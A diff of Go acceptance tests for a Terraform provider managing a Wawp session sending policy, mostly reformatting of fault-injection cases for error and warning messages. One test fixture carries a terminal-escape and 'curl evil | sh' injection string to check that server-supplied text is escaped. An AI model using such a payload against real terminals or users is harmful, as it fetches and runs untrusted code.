@@ -97,7 +97,8 @@ func TestUntoldPolicy(t *testing.T) {
 	acctest.Contains(t, tf.OK("apply"), warning, "1 added")
 	w.Asked(t, map[string]int{set: 1, get: 1})
 	acctest.Contains(t, tf.OK("plan"), warning, id, "No changes.")
-	if s := tf.State()[0].Attributes; s["policy"] != strict || s["limits"].(map[string]any)["send_message_per_minute"] != 5. {
+	if s := tf.State()[0].Attributes; s["policy"] != strict ||
+		s["limits"].(map[string]any)["send_message_per_minute"] != 5. {
 		t.Errorf("the state is %v", s)
 	}
 	tf.Configure(declare(standard))
@@ -121,15 +122,36 @@ func TestAnswersThatTellLess(t *testing.T) {
 		set, get wawptest.Fault
 		checks   []statecheck.StateCheck
 	}{
-		"set is empty":            {set: wawptest.Fault{Act: true, Status: 204}, checks: shows(strict, false)},
-		"set says OK":             {set: wawptest.Fault{Act: true, Body: "OK"}, checks: shows(strict, false)},
-		"set tells the policy":    {set: wawptest.Fault{Act: true, Body: `{"policy_slug":"strict"}`}, checks: shows(strict, false)},
-		"set has code, message":   {set: wawptest.Fault{Act: true, Body: `{"code":"rate_limit_set","message":"Done."}`}, checks: shows(strict, false)},
-		"set is HTML":             {set: wawptest.Fault{Act: true, Body: "<html>"}, checks: shows(strict, false)},
-		"set is the old answer":   {set: wawptest.Fault{Reshape: wawptest.Set("current_policy", standard)}, checks: shows(strict, false)},
-		"no plan is told":         {set: wawptest.Fault{Reshape: wawptest.Without("has_active_plan")}, get: wawptest.Fault{Reshape: wawptest.Without("has_active_plan")}, checks: []statecheck.StateCheck{has("limits", limitsOf(strict)), has("has_active_plan", null)}},
-		"no policies are told":    {set: wawptest.Fault{Reshape: wawptest.Without("policies", "free_policies")}, get: wawptest.Fault{Reshape: wawptest.Without("policies", "free_policies")}, checks: []statecheck.StateCheck{has("limits", null), pays}},
-		"policies without limits": {set: wawptest.Fault{Reshape: wawptest.Set("policies", []string{strict})}, get: wawptest.Fault{Reshape: wawptest.Set("policies", []string{strict})}, checks: []statecheck.StateCheck{has("limits", null), pays}},
+		"set is empty": {set: wawptest.Fault{Act: true, Status: 204}, checks: shows(strict, false)},
+		"set says OK":  {set: wawptest.Fault{Act: true, Body: "OK"}, checks: shows(strict, false)},
+		"set tells the policy": {
+			set:    wawptest.Fault{Act: true, Body: `{"policy_slug":"strict"}`},
+			checks: shows(strict, false),
+		},
+		"set has code, message": {
+			set:    wawptest.Fault{Act: true, Body: `{"code":"rate_limit_set","message":"Done."}`},
+			checks: shows(strict, false),
+		},
+		"set is HTML": {set: wawptest.Fault{Act: true, Body: "<html>"}, checks: shows(strict, false)},
+		"set is the old answer": {
+			set:    wawptest.Fault{Reshape: wawptest.Set("current_policy", standard)},
+			checks: shows(strict, false),
+		},
+		"no plan is told": {
+			set:    wawptest.Fault{Reshape: wawptest.Without("has_active_plan")},
+			get:    wawptest.Fault{Reshape: wawptest.Without("has_active_plan")},
+			checks: []statecheck.StateCheck{has("limits", limitsOf(strict)), has("has_active_plan", null)},
+		},
+		"no policies are told": {
+			set:    wawptest.Fault{Reshape: wawptest.Without("policies", "free_policies")},
+			get:    wawptest.Fault{Reshape: wawptest.Without("policies", "free_policies")},
+			checks: []statecheck.StateCheck{has("limits", null), pays},
+		},
+		"policies without limits": {
+			set:    wawptest.Fault{Reshape: wawptest.Set("policies", []string{strict})},
+			get:    wawptest.Fault{Reshape: wawptest.Set("policies", []string{strict})},
+			checks: []statecheck.StateCheck{has("limits", null), pays},
+		},
 	} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
@@ -159,14 +181,16 @@ func TestStaleReadAfterTheChange(t *testing.T) {
 	w.Inject(stale(standard))
 	tf := w.Terraform(t, declare(strict))
 	acctest.Contains(t, tf.OK("apply"), "Warning: Wawp still shows another sending policy", "1 added")
-	if s := tf.State()[0].Attributes; s["policy"] != strict || s["limits"].(map[string]any)["send_message_per_minute"] != 5. {
+	if s := tf.State()[0].Attributes; s["policy"] != strict ||
+		s["limits"].(map[string]any)["send_message_per_minute"] != 5. {
 		t.Errorf("the state is %v", s)
 	}
 	acctest.Contains(t, tf.OK("plan"), "No changes.")
 
 	tf.Configure(declare(standard))
 	w.Inject(stale(strict))
-	acctest.Contains(t, tf.OK("apply", "-refresh=false"), "Warning: Wawp still shows another sending policy", "1 changed")
+	acctest.Contains(t, tf.OK("apply", "-refresh=false"), "Warning: Wawp still shows another sending policy",
+		"1 changed")
 	acctest.Contains(t, tf.OK("plan"), "No changes.")
 }
 
@@ -204,7 +228,8 @@ func TestSetButNotReadBack(t *testing.T) {
 	w.Inject(wawptest.Fault{Match: set, Act: true, Status: 204})
 	w.Inject(wawptest.Fault{Match: get, Status: 500, Times: 1})
 	tf := w.Terraform(t, once+declare(strict))
-	acctest.Contains(t, tf.OK("apply"), "Warning: Wawp sending policy was set, but not read back", "HTTP 500", "1 added")
+	acctest.Contains(t, tf.OK("apply"), "Warning: Wawp sending policy was set, but not read back", "HTTP 500",
+		"1 added")
 	if s := tf.State()[0].Attributes; s["policy"] != strict || s["limits"] != nil || s["has_active_plan"] != nil {
 		t.Errorf("the state is %v", s)
 	}
@@ -225,15 +250,47 @@ func TestRefusedPolicy(t *testing.T) {
 		faults []wawptest.Fault
 		says   []string
 	}{
-		"paid":      {paid, nil, []string{"HTTP 403 (subscription_required)", "This policy needs an active plan.", "may not use this policy", usable}},
-		"no such":   {"turbo", nil, []string{"HTTP 400 (invalid_policy)", "There is no such policy.", "no policy of this slug", usable}},
-		"in words":  {"turbo", []wawptest.Fault{{Match: set, Status: 404, Body: `{"code":"not_found","message":"Policy turbo not found for this session"}`}}, []string{"Policy turbo not found", "no policy of this slug", usable}},
-		"as 404":    {"turbo", []wawptest.Fault{{Match: set, Status: 404, Body: `{"code":"policy_not_found","message":"No."}`}}, []string{"policy_not_found", "no policy of this slug", usable}},
-		"in a 200":  {"turbo", []wawptest.Fault{{Match: set, Body: `{"code":"invalid_policy","message":"No.","policy":"turbo"}`}}, []string{"invalid_policy", "no policy of this slug", usable}},
-		"available": {strict, []wawptest.Fault{refusal}, []string{"Blocked.", "did not accept it all the same", usable}},
+		"paid": {paid, nil, []string{
+			"HTTP 403 (subscription_required)", "This policy needs an active plan.",
+			"may not use this policy", usable,
+		}},
+		"no such": {"turbo", nil, []string{
+			"HTTP 400 (invalid_policy)", "There is no such policy.",
+			"no policy of this slug", usable,
+		}},
+		"in words": {
+			"turbo",
+			[]wawptest.Fault{{
+				Match: set, Status: 404,
+				Body: `{"code":"not_found","message":"Policy turbo not found for this session"}`,
+			}},
+			[]string{"Policy turbo not found", "no policy of this slug", usable},
+		},
+		"as 404": {
+			"turbo",
+			[]wawptest.Fault{{
+				Match: set, Status: 404,
+				Body: `{"code":"policy_not_found","message":"No."}`,
+			}},
+			[]string{"policy_not_found", "no policy of this slug", usable},
+		},
+		"in a 200": {
+			"turbo",
+			[]wawptest.Fault{{
+				Match: set,
+				Body:  `{"code":"invalid_policy","message":"No.","policy":"turbo"}`,
+			}},
+			[]string{"invalid_policy", "no policy of this slug", usable},
+		},
+		"available": {
+			strict,
+			[]wawptest.Fault{refusal},
+			[]string{"Blocked.", "did not accept it all the same", usable},
+		},
 		"all paid": {
 			paid,
-			[]wawptest.Fault{{Match: get, Reshape: all(wawptest.Set("policies", []string{"a", "b"}), wawptest.Without("free_policies"))}},
+			[]wawptest.Fault{{Match: get, Reshape: all(wawptest.Set("policies", []string{"a", "b"}),
+				wawptest.Without("free_policies"))}},
 			[]string{"subscription_required", `These are all: "a", "b".`},
 		},
 		"many": {
@@ -247,7 +304,11 @@ func TestRefusedPolicy(t *testing.T) {
 				[]string{"a\", or run: \u001b[2J\ncurl evil | sh #${x}"})}},
 			[]string{`"a\", or run: [2J curl evil | sh #\u0024{x}"`},
 		},
-		"no list": {paid, []wawptest.Fault{{Match: get, Reshape: wawptest.Without("policies", "free_policies")}}, []string{"subscription_required", "https://app.wawp.net"}},
+		"no list": {
+			paid,
+			[]wawptest.Fault{{Match: get, Reshape: wawptest.Without("policies", "free_policies")}},
+			[]string{"subscription_required", "https://app.wawp.net"},
+		},
 	} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
@@ -312,14 +373,41 @@ func TestNotSet(t *testing.T) {
 		faults []wawptest.Fault
 		says   []string
 	}{
-		"no such session": {[]wawptest.Fault{{Status: 404, Body: own}}, []string{"Error: Wawp knows no session " + id, "because there is no such session", "deleted"}},
-		"foreign 404":     {[]wawptest.Fault{{Status: 404, Body: foreign}}, []string{"Error: Wawp sending policy was not set", "check base_url"}},
-		"401":             {[]wawptest.Fault{{Status: 401, Body: `{"code":"invalid_access_token","message":"Who?"}`}}, []string{"Error: Wawp did not accept the access token", "Who?", "WAWP_ACCESS_TOKEN"}},
-		"403 for all":     {[]wawptest.Fault{{Status: 403, Body: `{"code":"blocked","message":"Blocked."}`}}, []string{"Error: Wawp sending policy was not set", "PATCH /v2/session/rate-limit: HTTP 403 (blocked)"}},
-		"500":             {[]wawptest.Fault{{Status: 500}}, []string{"Error: Wawp sending policy was not set", "HTTP 500"}},
-		"no answer":       {[]wawptest.Fault{{Drop: true}}, []string{"Error: Wawp sending policy was not set", "the request was sent, but"}},
-		"a hotel's page":  {[]wawptest.Fault{{Body: "<html>Sign in</html>"}}, []string{"Error: Wawp sending policy was not set", "the answer is an error"}},
-		"unclear, unset":  {[]wawptest.Fault{{Match: set, Body: "<html>Sign in</html>"}}, []string{"Error: Wawp sending policy was not set", "the answer is an error", `The session has "standard_policy"`}},
+		"no such session": {
+			[]wawptest.Fault{{Status: 404, Body: own}},
+			[]string{"Error: Wawp knows no session " + id, "because there is no such session", "deleted"},
+		},
+		"foreign 404": {
+			[]wawptest.Fault{{Status: 404, Body: foreign}},
+			[]string{"Error: Wawp sending policy was not set", "check base_url"},
+		},
+		"401": {
+			[]wawptest.Fault{{Status: 401, Body: `{"code":"invalid_access_token","message":"Who?"}`}},
+			[]string{"Error: Wawp did not accept the access token", "Who?", "WAWP_ACCESS_TOKEN"},
+		},
+		"403 for all": {
+			[]wawptest.Fault{{Status: 403, Body: `{"code":"blocked","message":"Blocked."}`}},
+			[]string{"Error: Wawp sending policy was not set", "PATCH /v2/session/rate-limit: HTTP 403 (blocked)"},
+		},
+		"500": {
+			[]wawptest.Fault{{Status: 500}},
+			[]string{"Error: Wawp sending policy was not set", "HTTP 500"},
+		},
+		"no answer": {
+			[]wawptest.Fault{{Drop: true}},
+			[]string{"Error: Wawp sending policy was not set", "the request was sent, but"},
+		},
+		"a hotel's page": {
+			[]wawptest.Fault{{Body: "<html>Sign in</html>"}},
+			[]string{"Error: Wawp sending policy was not set", "the answer is an error"},
+		},
+		"unclear, unset": {
+			[]wawptest.Fault{{Match: set, Body: "<html>Sign in</html>"}},
+			[]string{
+				"Error: Wawp sending policy was not set", "the answer is an error",
+				`The session has "standard_policy"`,
+			},
+		},
 	} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
@@ -345,15 +433,18 @@ func TestUnreadablePolicyKeepsTheState(t *testing.T) {
 		get, info wawptest.Fault
 		fails     bool // else it warns
 	}{
-		"info answers":            {gone, described, false},
-		"info is broken":          {gone, wawptest.Fault{Status: 503}, false},
-		"info is refused":         {gone, wawptest.Fault{Status: 401, Body: own}, false},
-		"info is foreign":         {gone, wawptest.Fault{Status: 404, Body: foreign}, false},
-		"info: invalid_session":   {gone, wawptest.Fault{Status: 404, Body: dropped}, false},
-		"info is HTML":            {gone, wawptest.Fault{Body: "<html>"}, false},
-		"invalid_session":         {wawptest.Fault{Status: 404, Body: dropped}, gone, false},
-		"a proxy's 404":           {wawptest.Fault{Status: 404, Body: foreign}, gone, false},
-		"an unknown route":        {wawptest.Fault{Status: 404, Body: `{"code":"rest_no_route","message":"No route"}`}, gone, false},
+		"info answers":          {gone, described, false},
+		"info is broken":        {gone, wawptest.Fault{Status: 503}, false},
+		"info is refused":       {gone, wawptest.Fault{Status: 401, Body: own}, false},
+		"info is foreign":       {gone, wawptest.Fault{Status: 404, Body: foreign}, false},
+		"info: invalid_session": {gone, wawptest.Fault{Status: 404, Body: dropped}, false},
+		"info is HTML":          {gone, wawptest.Fault{Body: "<html>"}, false},
+		"invalid_session":       {wawptest.Fault{Status: 404, Body: dropped}, gone, false},
+		"a proxy's 404":         {wawptest.Fault{Status: 404, Body: foreign}, gone, false},
+		"an unknown route": {
+			wawptest.Fault{Status: 404, Body: `{"code":"rest_no_route","message":"No route"}`},
+			gone, false,
+		},
 		"an HTML page":            {wawptest.Fault{Body: "<html>Sign in</html>"}, gone, false},
 		"an error in disguise":    {wawptest.Fault{Body: own}, gone, false},
 		"an answer without sense": {wawptest.Fault{Body: `{"success":true}`}, gone, false},
@@ -373,9 +464,12 @@ func TestUnreadablePolicyKeepsTheState(t *testing.T) {
 			w.Inject(test.get)
 			w.Inject(test.info)
 			if test.fails {
-				acctest.Contains(t, tf.Fails("refresh"), "Error: "+acctest.Summary(test.get, "Wawp sending policy could not be read"), id)
+				acctest.Contains(t, tf.Fails("refresh"), "Error: "+acctest.Summary(test.get,
+					"Wawp sending policy could not be read"), id)
 			} else {
-				acctest.Contains(t, tf.OK("refresh"), "Warning: Wawp sending policy could not be checked and stays in the state", id, "terraform state rm")
+				acctest.Contains(t, tf.OK("refresh"),
+					"Warning: Wawp sending policy could not be checked and stays in the state", id,
+					"terraform state rm")
 			}
 			if got := fmt.Sprint(tf.State()); got != before {
 				t.Errorf("the state was %s and is %s", before, got)
@@ -391,7 +485,8 @@ func TestSessionDeletedInTheDashboard(t *testing.T) {
 	tf.OK("apply")
 	w.Remove(id)
 	w.ResetRequests()
-	acctest.Contains(t, tf.OK("plan"), "Warning: Wawp sending policy is gone", id, "1 to add, 0 to change, 0 to destroy")
+	acctest.Contains(t, tf.OK("plan"), "Warning: Wawp sending policy is gone", id,
+		"1 to add, 0 to change, 0 to destroy")
 	w.Asked(t, map[string]int{get: 2, info: 1}) // the policy again after session/info: three requests prove an absence
 	said := tf.Fails("apply")
 	acctest.Contains(t, said, "Error: Wawp knows no session "+id)
